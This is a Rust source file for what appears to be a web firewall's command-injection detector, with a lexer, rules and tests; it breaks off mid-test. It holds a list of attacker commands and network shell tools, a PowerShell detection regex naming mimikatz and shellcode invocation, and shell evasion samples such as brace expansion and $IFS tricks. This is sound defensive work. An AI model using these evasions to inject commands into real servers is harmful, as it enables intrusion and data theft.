//! Command injection: a lexer for sh/bash, cmd and PowerShell command lines.
//!
//! A value injected into a shell command does harm only with shell syntax around it: a
//! separator or substitution that starts a new command (`;`, `|`, `&&`, newline, `$(..)`,
//! backticks), then a command word, then its arguments. So this detector first undoes the
//! evasions that keep a command word from looking like one (`c''at`, `c\at`, `c$@at`,
//! `$IFS`, `${PATH:0:1}`, `{cat,/etc/passwd}`, `w^h^o^a^m^i`, `%COMSPEC%`), then lexes the
//! value into words and operators, and fires only on a known command in command position
//! whose arguments look like a command line's (a path, a flag, a URL, a redirection, a
//! variable) or that needs none (`;id`, `|whoami`). A sentence with the words "time" or "cat"
//! in it has no command position and passes; "; cat videos are fun" counts only from paranoia 2.
//!
//! Hand-written because shell grammars are not regular and no crate lexes sh, cmd and
//! PowerShell leniently enough for hostile fragments; the lexer is one pass and fuzzed.

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::LazyLock;

use regex::bytes::Regex;

use super::{
    ByteSet, Detector, Form, Hit, PATTERN_SPACE, Rule, Severity, find_ignoring_ascii_case, pattern,
    text_of,
};

pub static COMMAND: Rule = Rule {
    id: 932100,
    detector: Detector::CommandInjection,
    severity: Severity::Critical,
    paranoia: 1,
    description: "Command injection: a separator or substitution, then a command with command-line arguments",
};

pub static EVADED_COMMAND: Rule = Rule {
    id: 932110,
    detector: Detector::CommandInjection,
    severity: Severity::Critical,
    paranoia: 1,
    description: "Command injection: a command word assembled with shell evasions ($IFS, quotes, carets)",
};

pub static POWERSHELL: Rule = Rule {
    id: 932120,
    detector: Detector::CommandInjection,
    severity: Severity::Critical,
    paranoia: 1,
    description: "Command injection: PowerShell download, encoded-command or expression invocation",
};

pub static BARE_COMMAND: Rule = Rule {
    id: 932101,
    detector: Detector::CommandInjection,
    severity: Severity::Critical,
    paranoia: 2,
    description: "Command injection: a separator, then a known command with word arguments",
};

pub static RULES: &[&Rule] = &[&COMMAND, &EVADED_COMMAND, &POWERSHELL, &BARE_COMMAND];

/// Commands that attackers run through injections, from CRS's unix-shell and windows-commands
/// lists, trimmed to those whose names are not also common English words.
pub(crate) const COMMANDS: &[&str] = &[
    // POSIX reconnaissance and file reading
    "cat",
    "tac",
    "head",
    "tail",
    "more",
    "less",
    "nl",
    "ls",
    "id",
    "whoami",
    "uname",
    "hostname",
    "ifconfig",
    "netstat",
    "ps",
    "env",
    "printenv",
    "pwd",
    "lsof",
    "w",
    "who",
    "last",
    "lastlog",
    "getent",
    "groups",
    "strings",
    "xxd",
    "od",
    "hexdump",
    "base64",
    "rev",
    "fold",
    "grep",
    "egrep",
    "find",
    "locate",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "tee",
    "dd",
    "file",
    "stat",
    // network and download
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ssh",
    "scp",
    "sftp",
    "ftp",
    "tftp",
    "ping",
    "nslookup",
    "dig",
    "traceroute",
    "nmap",
    "openssl",
    // interpreters and shells
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "busybox",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "lua",
    "irb",
    "gdb",
    "vi",
    "vim",
    "ex",
    "nohup",
    "timeout",
    "exec",
    "eval",
    "sudo",
    "su",
    "xterm",
    "expect",
    "tclsh",
    "java",
    // system changes
    "chmod",
    "chown",
    "rm",
    "mv",
    "cp",
    "touch",
    "mkdir",
    "kill",
    "killall",
    "pkill",
    "crontab",
    "useradd",
    "usermod",
    "passwd",
    "systemctl",
    "reboot",
    "shutdown",
    "halt",
    "mkfifo",
    "tar",
    "zip",
    "unzip",
    "gcc",
    "cc",
    "sleep",
    "mail",
    "sendmail",
    "echo",
    "printf",
    "export",
    // Windows cmd
    "cmd",
    "powershell",
    "pwsh",
    "type",
    "dir",
    "net",
    "netsh",
    "ipconfig",
    "systeminfo",
    "tasklist",
    "taskkill",
    "reg",
    "certutil",
    "bitsadmin",
    "wmic",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "ver",
    "del",
    "erase",
    "schtasks",
    "findstr",
    "icacls",
    "attrib",
    "whoami.exe",
    "cmd.exe",
    "powershell.exe",
    "vssadmin",
    "ntdsutil",
];

/// Commands that are attacks with no arguments at all (`;id`, `|whoami`).
const ARGUMENTLESS: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "hostname",
    "pwd",
    "ls",
    "env",
    "printenv",
    "ps",
    "netstat",
    "systeminfo",
    "ver",
    "tasklist",
    "w",
    "who",
    "reboot",
    "shutdown",
    "halt",
    "sh",
    "bash",
    "dir",
    "lastlog",
    "cmd",
    "powershell",
];

static POWERSHELL_PATTERN: LazyLock<Option<Regex>> = LazyLock::new(|| {
    pattern(
        r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\s+(?:-[a-z]+\s+)*-(?:e|enc|encodedcommand|c|command|nop|noprofile|w|windowstyle|exec|executionpolicy)\b|\binvoke-(?:expression|webrequest|command|restmethod|shellcode|mimikatz)\b|\biex\s*[(\x22'$]|new-object\s+(?:system\.)?net\.webclient|\.download(?:string|file|data)\s*\(|\bstart-process\b|\bset-mppreference\b",
    )
});

/// Reports command injection in one decoded form.
pub fn detect(form: &Form<'_>, hits: &mut Vec<Hit>) {
    let bytes = form.bytes();
    if may_hold_powershell(form)
        && let Some(found) = POWERSHELL_PATTERN
            .as_ref()
            .and_then(|regex| regex.find(bytes))
    {
        hits.push(Hit::new(
            &POWERSHELL,
            found.range(),
            String::from_utf8_lossy(found.as_bytes()).into_owned(),
        ));
        return;
    }
    if !may_hold_command(form) || !may_name_positioned_command(form) {
        return;
    }
    let unmarked = markdown_code_as_text(bytes);
    let normalized = normalize(unmarked.as_deref().unwrap_or(bytes));
    let tokens = lex(&normalized.text);
    if let Some((rule, command)) = find_command(&tokens, bytes, normalized.spacing_evaded) {
        hits.push(Hit::new(rule, 0..bytes.len(), command));
    }
}

/// A word that each alternative of `POWERSHELL_PATTERN` holds, in some case, with the bytes
/// the alternative needs besides: one of each set. `powershell` and `pwsh` need a space and a
/// `-` (a switch after them), `iex` one of `(`, a quote or `$` after it, `new-object` a space,
/// `.download` a `(`. The pattern is case-insensitive, so the regex crate derives no literal
/// prefilter from it; `every_powershell_alternative_holds_a_prefilter_word` and
/// `the_powershell_gate_passes_every_narrowest_match` keep the two in step.
const POWERSHELL_WORDS: [PowershellWord; 8] = [
    PowershellWord::new("powershell", &[DASH, PATTERN_SPACE]),
    PowershellWord::new("pwsh", &[DASH, PATTERN_SPACE]),
    PowershellWord::new("invoke-", &[]),
    PowershellWord::new("iex", &[ByteSet::of(b"(\"'$")]),
    PowershellWord::new("new-object", &[PATTERN_SPACE]),
    PowershellWord::new(".download", &[ByteSet::of(b"(")]),
    PowershellWord::new("start-process", &[]),
    PowershellWord::new("set-mppreference", &[]),
];

struct PowershellWord {
    /// In small letters.
    word: &'static str,
    /// The bytes of `word`.
    bytes: ByteSet,
    /// Sets of which a value must hold a byte each.
    needs: &'static [ByteSet],
}

impl PowershellWord {
    const fn new(word: &'static str, needs: &'static [ByteSet]) -> Self {
        PowershellWord {
            word,
            bytes: ByteSet::of(word.as_bytes()),
            needs,
        }
    }
}

const DASH: ByteSet = ByteSet::of(b"-");

/// Bytes of which each of `POWERSHELL_WORDS` holds one, in some case, or its alternative needs
/// one (`pwsh` a `-`).
const POWERSHELL_WORD_BYTES: ByteSet = ByteSet::of(b"-.xX");

/// Whether `form` may match `POWERSHELL_PATTERN`: it is searched for each of
/// `POWERSHELL_WORDS` whose bytes, and the bytes its alternative needs besides, it holds. Most
/// values hold none's (a URL has no space, a SKU no `p`), and skip every search; each search is
/// `memchr` for the word's rarest byte. An Aho-Corasick automaton over the eight words walked
/// every byte of each value with a `-`: a third of this detector's time on a URL, and most of
/// it on long prose with hyphens.
fn may_hold_powershell(form: &Form<'_>) -> bool {
    if !form.holds_any(POWERSHELL_WORD_BYTES) {
        // Most values, which hold no word's `-`, `.` or `x`: the loop below costs more.
        return false;
    }
    let held = form.present().ascii_lowercased();
    POWERSHELL_WORDS.iter().any(|candidate| {
        candidate.bytes.is_subset(held)
            && candidate.needs.iter().all(|&one_of| form.holds_any(one_of))
            && find_ignoring_ascii_case(form.bytes(), candidate.word.as_bytes()).is_some()
    })
}

/// A command needs a position: a separator or substitution (`; | & \n \` $(`), an evasion that
/// builds one (`$IFS`, `{a,b}`, `^`, `%VAR%`), or an absolute path to a binary. A value with
/// none of these skips the lexer.
fn may_hold_command(form: &Form<'_>) -> bool {
    if form.holds_any(ByteSet::of(b";|&\n`${^")) {
        return true;
    }
    let bytes = form.bytes();
    (form.holds(b'%')
        && memchr::memchr_iter(b'%', bytes)
            .any(|at| bytes.get(at + 1).is_some_and(u8::is_ascii_alphabetic)))
        || (form.holds(b'/')
            && memchr::memchr_iter(b'/', bytes).any(|at| {
                let rest = &bytes[at..];
                rest.starts_with(b"/bin/")
                    || rest.starts_with(b"/sbin/")
                    || rest.starts_with(b"/usr/")
            }))
}

/// Bytes whose undoing rewrites a value's words beyond removing quotes: variables and slices
/// (`$IFS`, `%COMSPEC%`, `$@`), braces, escapes, and backticks (Markdown code).
const REWRITING_BYTES: ByteSet = ByteSet::of(b"{}$%\\^`");

/// Whether `find_command` may find a command in `form` once normalized; false only when it
/// would not. The answer comes without normalizing, for a value without `REWRITING_BYTES`
/// (prose with a `;` or `&` and quotes): its normalization only lowercases and removes quote
/// pairs, which keeps every boundary between tokens, so the value's own tokens are the
/// normalized ones, each word with some of its quotes removed. Command names hold no quotes,
/// so a word that names a command with some of its quotes removed names it with all of them
/// removed: each word in command position, or that may be an absolute path, is looked up that
/// way. A word of quotes alone may vanish and put the next word in command position: then the
/// answer is yes.
///
/// Only the word after a separator or substitution is in position, and a word of quotes alone
/// matters only there: the two tokens from each byte that starts one are read. A byte inside
/// a longer operator (`||`, `>&`) starts the same token or a needless read. A word that may be
/// an absolute path starts with a `/`, after quotes only, at the start of a word: the one token
/// from there is read. Markup (`</p>`) and URLs hold many `/`, and no other word is read.
fn may_name_positioned_command(form: &Form<'_>) -> bool {
    if form.holds_any(REWRITING_BYTES) {
        return true;
    }
    let text = form.text();
    let bytes = text.as_bytes();
    let reads =
        |at: usize, tokens: usize| names_positioned_command(Lexer { text: &text, at }.take(tokens));
    bytes.iter().enumerate().any(|(at, &byte)| match byte {
        b';' | b'|' | b'&' | b'\n' => reads(at, 2),
        b'<' | b'>' => bytes.get(at + 1) == Some(&b'(') && reads(at, 2),
        b'/' => {
            let start = bytes[..at]
                .iter()
                .rposition(|byte| !matches!(byte, b'\'' | b'"'))
                .map_or(0, |before| before + 1);
            (start == 0 || WORD_ENDS.contains(bytes[start - 1])) && reads(start, 1)
        }
        _ => false,
    })
}

/// Whether a word among `tokens` in command position, or that may be an absolute path, names a
/// command once its quotes are removed, or is made of quotes alone.
fn names_positioned_command<'a>(tokens: impl Iterator<Item = Token<'a>>) -> bool {
    let mut previous = None;
    for token in tokens {
        if let Token::Word(word) = token {
            let in_position = matches!(previous, Some(Token::Separator | Token::Substitution));
            let plain = !word
                .bytes()
                .any(|byte| matches!(byte, b'\'' | b'"') || byte.is_ascii_uppercase());
            let unquoted: Cow<'_, str> = if plain {
                Cow::Borrowed(word)
            } else {
                word.chars()
                    .filter(|&ch| !matches!(ch, '\'' | '"'))
                    .map(|ch| ch.to_ascii_lowercase())
                    .collect::<String>()
                    .into()
            };
            let absolute = unquoted.starts_with('/') && unquoted[1..].contains('/');
            if unquoted.is_empty() || (in_position || absolute) && is_command(&unquoted) {
                return true;
            }
        }
        previous = Some(token);
    }
    false
}

/// Markdown code is text about commands, not a command: a fence (```` ```sh ````) and an inline
/// span (`` `ls -la` ``) in a sentence of at least four words, bounded by spaces or punctuation,
/// lose their backticks, so the shell lexer does not read them as substitutions. A backtick
/// glued to a word (`` 127.0.0.1`id` ``) or in a value that is not prose stays a substitution.
fn markdown_code_as_text(form: &[u8]) -> Option<Vec<u8>> {
    /// Words outside code that make a value prose.
    const MIN_PROSE_WORDS: usize = 4;
    memchr::memchr(b'`', form)?;
    let text = text_of(form);
    let mut out = String::with_capacity(text.len());
    let mut prose_words = 0;
    let mut rest = text.as_ref();
    while let Some(open) = rest.find('`') {
        let (before, after) = rest.split_at(open);
        prose_words += before
            .split_whitespace()
            .filter(|word| word.chars().filter(|c| c.is_alphabetic()).count() >= 2)
            .count();
        out.push_str(before);
        if let Some(fenced) = after.strip_prefix("```") {
            // The fence and its info string (`python`, `sh`) become a line break.
            let info_end = fenced.find(char::is_whitespace).unwrap_or(fenced.len());
            out.push('\n');
            rest = &fenced[info_end..];
            continue;
        }
        let span = &after[1..];
        let Some(close) = span.find('`') else {
            out.push_str(after);
            rest = "";
            break;
        };
        let bounded_before = before
            .chars()
            .next_back()
            .is_none_or(|c| c.is_whitespace() || "([\"'".contains(c));
        let bounded_after = span[close + 1..]
            .chars()
            .next()
            .is_none_or(|c| c.is_whitespace() || ".,;:!?)]\"'".contains(c));
        if bounded_before && bounded_after {
            out.push(' ');
            out.push_str(&span[..close]);
            out.push(' ');
        } else {
            out.push('`');
            out.push_str(&span[..close]);
            out.push('`');
        }
        rest = &span[close + 1..];
    }
    prose_words += rest
        .split_whitespace()
        .filter(|word| word.chars().filter(|c| c.is_alphabetic()).count() >= 2)
        .count();
    out.push_str(rest);
    (prose_words >= MIN_PROSE_WORDS).then(|| out.into_bytes())
}

struct Normalized {
    text: String,
    /// Whether `$IFS`, a `${VAR:0:1}` slice or a brace expansion stood in for spaces and
    /// slashes: syntax no sentence has.
    spacing_evaded: bool,
}

/// The bytes `normalize` may drop or replace; it copies runs of any others whole.
const NORMALIZED_BYTES: ByteSet = ByteSet::of(b"'\"\\^{},");

static IFS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    // `$IFS`, `${IFS}`, `$IFS$9`, and `${VAR:0:1}` slices (which attackers use to conjure `/`).
    pattern(r"\$\{?IFS\}?(?:\$[0-9])?|\$\{[A-Za-z_]+:[0-9]+:[0-9]+\}|%[A-Za-z_]+:~[0-9,-]+%")
});

fn normalize(form: &[u8]) -> Normalized {
    let mut text = text_of(form);
    let mut spacing_evaded = false;
    let variables = memchr::memchr2(b'$', b'%', form).is_some();
    if let Some(regex) = IFS.as_ref().filter(|_| variables) {
        let replaced =
            regex.replace_all(text.as_bytes(), |captures: &regex::bytes::Captures<'_>| {
                let matched = captures.get(0).map_or(&b""[..], |found| found.as_bytes());
                if matched.starts_with(b"${") && !matched.starts_with(b"${IFS") {
                    b"/".to_vec()
                } else if matched.starts_with(b"%") {
                    Vec::new()
                } else {
                    b" ".to_vec()
                }
            });
        if replaced.as_ref() != text.as_bytes() {
            spacing_evaded = true;
            text = String::from_utf8_lossy(&replaced).into_owned().into();
        }
    }
    let mut lowered = text.to_ascii_lowercase();
    // `replace` copies the whole text even when nothing matches; most texts hold none.
    for (from, to) in [("%comspec%", "cmd"), ("$@", ""), ("$*", "")] {
        if variables && lowered.contains(from) {
            lowered = lowered.replace(from, to);
        }
    }
    let (text, braces_split) = undo_quoting(&lowered);
    Normalized {
        text,
        spacing_evaded: spacing_evaded || braces_split,
    }
}

/// Removes the quotes and escapes the shell would (`c''at`, `c\\at`, `w^h^o`) from lowercased
/// text, and turns braces into spaces (`{cat,/etc/passwd}`); also says whether a brace held a
/// comma (a brace expansion).
fn undo_quoting(lowered: &str) -> (String, bool) {
    // Every byte `Unquoting::step` acts on is ASCII, so the loop walks bytes: a multi-byte
    // character's bytes are never letters, quotes or escapes, and pass through whole. Runs of
    // other bytes, most of a value, are copied whole: they only set whether the last byte was a
    // word's.
    let bytes = lowered.as_bytes();
    let mut out = String::with_capacity(bytes.len());
    let mut state = Unquoting::default();
    let mut index = 0;
    while index < bytes.len() {
        let run = bytes[index..]
            .iter()
            .position(|&byte| NORMALIZED_BYTES.contains(byte))
            .unwrap_or(bytes.len() - index);
        if run > 0 {
            // Both ends of the run are ASCII or the ends of the text: character boundaries.
            out.push_str(&lowered[index..index + run]);
            state.previous_is_word = bytes[index + run - 1].is_ascii_alphanumeric();
            index += run;
            if index == bytes.len() {
                break;
            }
        }
        // Every byte that stops a run is ASCII.
        if let Some(kept) = state.step(lowered, index) {
            out.push(char::from(kept));
        }
        index += 1;
    }
    (out, state.spacing_evaded)
}

/// What `undo_quoting` knows of the text before a byte.
#[derive(Debug, Default)]
struct Unquoting {
    previous_is_word: bool,
    in_brace: bool,
    /// A quote pair inside one word (`c''at`, `c'a't`, `"c"at`) is removed by the shell; a lone
    /// apostrophe (`I'd`) is prose and stays.
    open_quote: Option<u8>,
    /// Whether a comma stood inside braces.
    spacing_evaded: bool,
}

impl Unquoting {
    /// What the byte at `at` in `lowered` becomes: nothing (a quote or escape the shell
    /// removes), a space (a brace, or a comma inside braces) or itself.
    fn step(&mut self, lowered: &str, at: usize) -> Option<u8> {
        let bytes = lowered.as_bytes();
        let byte = bytes[at];
        let next = bytes.get(at + 1).copied();
        // Asked only of quotes and escapes: most bytes are neither.
        let next_is_word = || next.is_some_and(|next| next.is_ascii_alphanumeric());
        let separator = match byte {
            b'\'' | b'"' if self.open_quote == Some(byte) => {
                self.open_quote = None;
                return None;
            }
            b'\'' | b'"'
                if self.open_quote.is_none()
                    && (self.previous_is_word || next_is_word() || next == Some(byte))
                    && lowered[at + 1..]
                        .chars()
                        .take_while(|other| !other.is_whitespace())
                        .any(|other| other == char::from(byte)) =>
            {
                self.open_quote = Some(byte);
                return None;
            }
            // A backslash before a letter is that letter to sh; a caret is an escape to cmd.
            b'\\' | b'^' if self.previous_is_word && next_is_word() => return None,
            b'\\' if next_is_word() && !matches!(next, Some(b'n' | b'r' | b't')) => return None,
            // Brace expansion `{cat,/etc/passwd}` is `cat /etc/passwd`.
            b'{' => {
                self.in_brace = true;
                true
            }
            b'}' => {
                self.in_brace = false;
                true
            }
            b',' if self.in_brace => {
                self.spacing_evaded = true;
                true
            }
            _ => false,
        };
        self.previous_is_word = !separator && byte.is_ascii_alphanumeric();
        Some(if separator { b' ' } else { byte })
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Token<'a> {
    Word(&'a str),
    /// Starts a new command: `;`, `|`, `||`, `&`, `&&`, newline.
    Separator,
    /// Starts a substituted command: `$(`, backtick, `<(`, `>(`.
    Substitution,
    Redirect,
}

/// The bytes that may end a word: blanks, operators, and `$` (which ends one before `(`).
const WORD_ENDS: ByteSet = ByteSet::of(b" \t\r\n;|&`<>()$");

fn lex(text: &str) -> Vec<Token<'_>> {
    // A token takes at least one byte and most take several: this is one allocation.
    let mut tokens = Vec::with_capacity(text.len() / 2 + 1);
    tokens.extend(Lexer { text, at: 0 });
    tokens
}

/// The tokens of a text, one at a time: `lex` collects them, and `may_name_positioned_command`
/// reads them without a list.
struct Lexer<'a> {
    text: &'a str,
    at: usize,
}

impl<'a> Iterator for Lexer<'a> {
    type Item = Token<'a>;

    fn next(&mut self) -> Option<Token<'a>> {
        let bytes = self.text.as_bytes();
        let mut i = self.at;
        let token = loop {
            match *bytes.get(i)? {
                b' ' | b'\t' | b'\r' | b'(' | b')' => i += 1,
                b';' | b'|' | b'&' | b'\n' => {
                    i += 1;
                    while i < bytes.len() && matches!(bytes[i], b'|' | b'&') {
                        i += 1;
                    }
                    break Token::Separator;
                }
                b'`' => {
                    i += 1;
                    break Token::Substitution;
                }
                b'$' | b'<' | b'>' if bytes.get(i + 1) == Some(&b'(') => {
                    i += 2;
                    break Token::Substitution;
                }
                b'<' | b'>' => {
                    i += 1;
                    while i < bytes.len() && matches!(bytes[i], b'<' | b'>' | b'&') {
                        i += 1;
                    }
                    break Token::Redirect;
                }
                _ => {
                    let start = i;
                    i += 1;
                    loop {
                        i += bytes[i..]
                            .iter()
                            .position(|&byte| WORD_ENDS.contains(byte))
                            .unwrap_or(bytes.len() - i);
                        // A `$` ends a word only before `(`.
                        if bytes.get(i) == Some(&b'$') && bytes.get(i + 1) != Some(&b'(') {
                            i += 1;
                        } else {
                            break;
                        }
                    }
                    break Token::Word(&self.text[start..i]);
                }
            }
        };
        self.at = i;
        Some(token)
    }
}

/// The command a word names: `/usr/bin/cat` and `C:\Windows\System32\cmd.exe` name `cat` and
/// `cmd`.
fn command_name(word: &str) -> &str {
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    base.strip_suffix(".exe").unwrap_or(base)
}

/// `COMMANDS` as a set: every word of every value with a separator is looked up, and a
/// User-Agent alone has a dozen words.
static COMMAND_SET: LazyLock<HashSet<&'static str, foldhash::fast::FixedState>> =
    LazyLock::new(|| COMMANDS.iter().copied().collect());

fn is_command(word: &str) -> bool {
    COMMAND_SET.contains(command_name(word))
}

/// Arguments a command line has and a sentence does not.
fn is_command_argument(word: &str) -> bool {
    word.starts_with('-')
        || word.starts_with('/')
        || word.starts_with('$')
        || word.starts_with('%')
        || word.starts_with("./")
        || word.starts_with("~/")
        || word.contains("://")
        || word.contains('\\')
        || word.contains('/') && !word.ends_with('/')
        || word.contains('=')
        || is_ipv4(word)
        || is_command(word)
}

fn is_ipv4(word: &str) -> bool {
    let parts: Vec<&str> = word.split('.').collect();
    parts.len() == 4
        && parts.iter().all(|part| {
            !part.is_empty() && part.len() <= 3 && part.bytes().all(|b| b.is_ascii_digit())
        })
}

/// Finds the first command in command position. `original` is the input as received: a command
/// word it does not contain was assembled by an evasion.
fn find_command(
    tokens: &[Token<'_>],
    original: &[u8],
    spacing_evaded: bool,
) -> Option<(&'static Rule, String)> {
    let mut weak = None;
    for (index, token) in tokens.iter().enumerate() {
        let Token::Word(word) = token else { continue };
        let previous = index.checked_sub(1).and_then(|at| tokens.get(at));
        let in_command_position = matches!(previous, Some(Token::Separator | Token::Substitution));
        let substituted = matches!(previous, Some(Token::Substitution));
        let absolute = word.starts_with('/') && word[1..].contains('/');
        // Only a word in one of these positions is reported below: most words of a sentence
        // with a `;` skip the lookup.
        let positioned = in_command_position || absolute || index == 0 && spacing_evaded;
        if !positioned || !is_command(word) {
            continue;
        }
        let rest = &tokens[index + 1..];
        let arguments: Vec<&str> = rest
            .iter()
            .map_while(|token| match token {
                Token::Word(word) => Some(*word),
                _ => None,
            })
            .collect();
        let ends_command = rest
            .first()
            .is_none_or(|token| !matches!(token, Token::Word(_)));
        let name = command_name(word);
        let command_line = arguments
            .iter()
            .any(|argument| is_command_argument(argument))
            || rest
                .iter()
                .take(arguments.len() + 1)
                .any(|token| matches!(token, Token::Redirect))
            || name == "sleep"
                && arguments
                    .first()
                    .is_some_and(|seconds| seconds.bytes().all(|b| b.is_ascii_digit()));
        let evaded =
            spacing_evaded || find_ignoring_ascii_case(original, name.as_bytes()).is_none();
        let described = format!("{name} {}", arguments.join(" "))
            .trim_end()
            .to_owned();
        if evaded {
            return Some((&EVADED_COMMAND, described));
        }
        if in_command_position || absolute {
            if substituted
                || command_line
                || ends_command && (absolute || ARGUMENTLESS.contains(&name))
            {
                return Some((&COMMAND, described));
            }
            weak.get_or_insert((&BARE_COMMAND, described));
        }
    }
    weak
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule_ids(input: &str) -> Vec<u32> {
        super::super::rule_ids_of(detect, input)
    }

    /// `undo_quoting` stepping through every byte: copying runs whole must give the same text.
    fn undo_quoting_by_byte(lowered: &str) -> (String, bool) {
        let mut state = Unquoting::default();
        let out: Vec<u8> = (0..lowered.len())
            .filter_map(|at| state.step(lowered, at))
            .collect();
        (
            String::from_utf8_lossy(&out).into_owned(),
            state.spacing_evaded,
        )
    }

    /// `lex` as it was written first, a byte at a time.
    fn lex_by_byte(text: &str) -> Vec<Token<'_>> {
        let bytes = text.as_bytes();
        let mut tokens = Vec::new();
        let mut i = 0;
        while i < bytes.len() {
            match bytes[i] {
                b' ' | b'\t' | b'\r' | b'(' | b')' => i += 1,
                b';' | b'|' | b'&' | b'\n' => {
                    tokens.push(Token::Separator);
                    i += 1;
                    while i < bytes.len() && matches!(bytes[i], b'|' | b'&') {
                        i += 1;
                    }
                }
                b'`' => {
                    tokens.push(Token::Substitution);
                    i += 1;
                }
                b'$' | b'<' | b'>' if bytes.get(i + 1) == Some(&b'(') => {
                    tokens.push(Token::Substitution);
                    i += 2;
                }
                b'<' | b'>' => {
                    tokens.push(Token::Redirect);
                    i += 1;
                    while i < bytes.len() && matches!(bytes[i], b'<' | b'>' | b'&') {
                        i += 1;
                    }
                }
                _ => {
                    let start = i;
                    while i < bytes.len()
                        && !matches!(
                            bytes[i],
                            b' ' | b'\t'
                                | b'\r'
                                | b'\n'
                                | b';'
                                | b'|'
                                | b'&'
                                | b'`'
                                | b'<'
                                | b'>'
                                | b'('
                                | b')'
                        )
                        && !(bytes[i] == b'$' && bytes.get(i + 1) == Some(&b'('))
                    {
                        i += 1;
                    }
                    tokens.push(Token::Word(&text[start..i]));
                }
            }
        }
        tokens
    }

    /// Whatever `may_name_positioned_command` turns away, the whole pipeline finds nothing in:
    /// every sequence of up to five pieces of commands, paths, quotes, separators and prose.
    #[test]
    fn values_turned_away_before_normalizing_hold_no_command() {
        let pieces = [
            "id", "LS", ">(", "<(", "the", " ", ";", "&&", "|", "\n", "'", "\"", "/bin/", "-la",
            "/", "(",
        ];
        let (mut turned_away, mut found) = (0, 0);
        let mut value = String::new();
        let mut indexes = [0usize; 5];
        for count in 1..=indexes.len() {
            for mut number in 0..pieces.len().pow(count as u32) {
                value.clear();
                for index in indexes.iter_mut().take(count) {
                    *index = number % pieces.len();
                    number /= pieces.len();
                    value.push_str(pieces[*index]);
                }
                let form = Form::new(value.as_bytes());
                let normalized = normalize(value.as_bytes());
                let command = find_command(
                    &lex(&normalized.text),
                    value.as_bytes(),
                    normalized.spacing_evaded,
                );
                found += usize::from(command.is_some());
                if !may_name_positioned_command(&form) {
                    turned_away += 1;
                    assert_eq!(command, None, "{value:?}");
                }
            }
        }
        assert!(
            turned_away > 100_000 && found > 10_000,
            "{turned_away} {found}"
        );
        // A shape per rewriting byte whose undoing puts a command in position (a backtick needs
        // none: the lexer reads it as a substitution either way).
        for shape in [
            "{id,-la",
            ";}id",
            "x$IFS/bin/id",
            "x;%comspec%",
            ";i\\d",
            ";w^hoami",
        ] {
            let normalized = normalize(shape.as_bytes());
            let tokens = lex(&normalized.text);
            assert!(
                find_command(&tokens, shape.as_bytes(), normalized.spacing_evaded).is_some(),
                "{shape}"
            );
            assert!(
                may_name_positioned_command(&Form::new(shape.as_bytes())),
                "{shape}"
            );
        }
    }

    #[test]
    fn copying_runs_whole_keeps_every_normalized_text_and_token() {
        // Each byte the two functions treat apart, a letter, a space, a multi-byte character,
        // and a non-ASCII whitespace (U+2003) that ends a word for a quote's search.
        crate::every_string(b"a'\"\\^{},$( `>\n\xC3\xA9", 5, |bytes| {
            let Ok(text) = std::str::from_utf8(bytes) else {
                return;
            };
            assert_eq!(undo_quoting(text), undo_quoting_by_byte(text), "{text:?}");
            assert_eq!(lex(text), lex_by_byte(text), "{text:?}");
        });
        for text in [
            "c'a\u{2003}t'",
            "x\"\u{2003}\"",
            "a\u{0b}'b'",
            "{c\u{e9}t,/etc}",
            "\u{e9}$\u{e9}$(\u{e9}",
        ] {
            assert_eq!(undo_quoting(text), undo_quoting_by_byte(text), "{text:?}");
            assert_eq!(lex(text), lex_by_byte(text), "{text:?}");
        }
    }

    /// Each top-level alternative of the pattern holds one of the prefilter's words: a new
    /// alternative without one fails here.
    #[test]
    fn every_powershell_alternative_holds_a_prefilter_word() {
        let source = POWERSHELL_PATTERN
            .as_ref()
            .map(|regex| regex.as_str().trim_start_matches("(?i)").to_owned())
            .unwrap_or_default();
        // Split at the `|` that are outside groups and character classes.
        let (mut alternatives, mut current, mut depth, mut in_class, mut escaped) =
            (Vec::new(), String::new(), 0, false, false);
        for ch in source.chars() {
            if std::mem::take(&mut escaped) {
                current.push(ch);
                continue;
            }
            match ch {
                '\\' => escaped = true,
                '[' => in_class = true,
                ']' => in_class = false,
                '(' if !in_class => depth += 1,
                ')' if !in_class => depth -= 1,
                '|' if depth == 0 && !in_class => {
                    alternatives.push(std::mem::take(&mut current));
                    continue;
                }
                _ => {}
            }
            current.push(ch);
        }
        alternatives.push(current);
        assert_eq!(alternatives.len(), 7, "{alternatives:?}");
        for alternative in alternatives {
            let literal = alternative.replace('\\', "");
            assert!(
                POWERSHELL_WORDS
                    .iter()
                    .any(|candidate| literal.contains(candidate.word)),
                "{alternative}"
            );
        }
        for candidate in POWERSHELL_WORDS {
            assert!(
                candidate.bytes.intersects(POWERSHELL_WORD_BYTES)
                    || candidate
                        .needs
                        .iter()
                        .any(|one_of| one_of.is_subset(POWERSHELL_WORD_BYTES)),
                "{}",
                candidate.word
            );
        }
    }

    /// The narrowest matches of each alternative of `POWERSHELL_PATTERN`, with every kind of
    /// space, quote and case: each must pass the gate, which fails if a word's list asks for a
    /// byte its alternative can do without. Values that hold a word but lack a byte its list
    /// names must not pass, which fails if the list leaves the byte out.
    #[test]
    fn the_powershell_gate_passes_every_narrowest_match() {
        let mut matches = vec![
            "invoke-expression".to_owned(),
            "start-process".to_owned(),
            "set-mppreference".to_owned(),
            "x.downloadstring(".to_owned(),
            ".DownloadFile(".to_owned(),
        ];
        for space in [" ", "\t", "\n", "\x0b", "\x0c", "\r"] {
            matches.push(format!("pwsh{space}-e"));
            matches.push(format!("POWERSHELL.EXE{space}-c"));
            matches.push(format!("new-object{space}net.webclient"));
            matches.push(format!(".downloaddata{space}("));
            matches.push(format!("iex{space}("));
        }
        for after in ["(", "\"", "'", "$"] {
            matches.push(format!("IEX{after}"));
        }
        for found in &matches {
            assert!(
                POWERSHELL_PATTERN
                    .as_ref()
